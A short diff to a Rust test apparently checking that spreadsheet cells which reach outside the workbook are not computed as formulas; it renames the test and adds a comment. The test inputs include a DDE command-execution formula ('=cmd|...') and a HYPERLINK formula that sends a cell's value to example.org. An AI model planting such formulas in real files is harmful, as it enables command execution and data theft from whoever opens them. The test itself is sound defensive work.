@@ -46,8 +46,9 @@ fn formulas_are_computed_as_a_spreadsheet_would() {
     }
 }
 
+/// Proves S15.
 #[test]
-fn s15_what_reaches_out_of_the_workbook_is_no_formula() {
+fn what_reaches_out_of_the_workbook_is_no_formula() {
     for source in [
         "=cmd|'/c calc'!A0",
         "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
